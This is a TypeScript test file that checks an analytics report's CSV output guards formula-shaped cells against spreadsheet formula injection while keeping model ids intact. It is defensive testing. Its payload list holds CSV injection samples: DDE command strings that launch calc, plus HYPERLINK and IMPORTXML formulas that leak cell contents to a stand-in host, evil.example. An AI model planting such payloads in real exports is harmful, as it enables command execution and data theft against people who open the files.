/**
 * The report's CSV opened the way a spreadsheet opens it: a real CSV parser (`csv-parse`, RFC 4180
 * as Excel and LibreOffice read it) splits the file into cells, and a cell is then a formula when
 * its text starts with `=`, `+`, `-` or `@` (or a tab or carriage return), as OWASP's CSV Injection
 * page says: "This attack is difficult to mitigate… cells starting with any of the following
 * characters: Equals to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)".
 * Model ids keep their spelling; every formula-shaped cell either carries the `'` guard or is a
 * plain id that cannot call a function, run a command or reach another sheet.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { renderCsv } from "../../../src/analytics/render/csv.ts";
import {
  needsFormulaGuard,
  spreadsheetCell,
} from "../../../src/analytics/render/spreadsheet-cell.ts";
import { buildReport } from "../../../src/analytics/report.ts";
import type { CallEvent } from "../../../src/client/event.ts";

const base: CallEvent = {
  time: "2026-05-01T00:00:00.000Z",
  id: "e1",
  gateway: "gw",
  route: "default",
  mode: "universal",
  step: 0,
  provider: "workers-ai",
  model: "@cf/meta/llama-3.1-8b-instruct",
  status: 200,
  ok: true,
  cacheStatus: null,
  latencyMs: 10,
  tokensIn: 1,
  tokensOut: 1,
  cost: 0.001,
  errorCode: null,
  logId: null,
  attempts: 1,
  streamed: false,
};

/** OWASP's example payloads and a few more shapes, each as a route name and a model. */
const payloads = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cf/x/y!A1",
  "@cf/x (y)",
  "\t=1+1",
  "\r=1+1",
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
];

function cellsOf(csv: string): string[][] {
  return parse(csv, { relax_column_count: false }) as string[][];
}

/** What a spreadsheet would run: a formula-shaped cell without the `'` guard. */
function evaluated(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell);
}

/** A formula that could call a function, run a DDE command or reach another sheet. */
function dangerous(cell: string): boolean {
  return evaluated(cell) && /[()|!"'&,;=<>+\s]/.test(cell.slice(1));
}

describe("CSV opened as a spreadsheet opens it", () => {
  it("keeps Workers AI model ids exactly as the config spells them", async () => {
    const report = await buildReport(
      {
        kind: "events",
        name: "events.jsonl",
        stats: { records: 2, malformed: 0, malformedSamples: [] },
        async *events() {
          yield base;
          yield { ...base, id: "e2", model: "@hf/thebloke/mistral-7b-instruct-v0.1-awq" };
        },
      },
      { dimensions: ["provider", "model"] },
    );
    const [header, ...rows] = cellsOf(renderCsv(report));
    const model = header?.indexOf("model") ?? -1;
    const scope = header?.indexOf("scope") ?? -1;
    const models = rows.filter((row) => row[scope] === "group").map((row) => row[model]);
    expect(models).toEqual([
      "@cf/meta/llama-3.1-8b-instruct",
      "@hf/thebloke/mistral-7b-instruct-v0.1-awq",
    ]);
  });

  it("guards every hostile name, so no cell a spreadsheet evaluates can do harm", async () => {
    const events = payloads.flatMap((payload, index) => [
      { ...base, id: `r${index}`, route: payload },
      { ...base, id: `m${index}`, model: payload },
    ]);
    const report = await buildReport(
      {
        kind: "events",
        name: "events.jsonl",
        stats: { records: events.length, malformed: 0, malformedSamples: [] },
        async *events() {
          yield* events;
        },
      },
      { dimensions: ["route", "model"] },
    );
    const cells = cellsOf(renderCsv(report)).flat();
    const texts = new Set(cells);
    for (const payload of payloads) {
      if (payload.startsWith("\t") || payload.startsWith("\r")) continue; // shown as escapes
      expect(texts.has(`'${payload}`)).toBe(true);
      expect(texts.has(payload)).toBe(false);
    }
    expect(cells.filter(dangerous)).toEqual([]);
    expect([...new Set(cells.filter(evaluated))]).toEqual(["@cf/meta/llama-3.1-8b-instruct"]);
  });

  it("guards by the first character, and lets only plain ids through", () => {
    for (const payload of payloads) expect(needsFormulaGuard(payload)).toBe(true);
    expect(needsFormulaGuard("@cf/meta/llama-3.1-8b-instruct")).toBe(false);
    expect(needsFormulaGuard("@cf")).toBe(true);
    expect(needsFormulaGuard("openai")).toBe(false);
    expect(spreadsheetCell("=1+1")).toBe(`"'=1+1"`);
    expect(spreadsheetCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
    expect(spreadsheetCell(-1)).toBe("-1");
    expect(cellsOf(`${spreadsheetCell("\t=1")}\n`)).toEqual([["'\t=1"]]);
  });
});
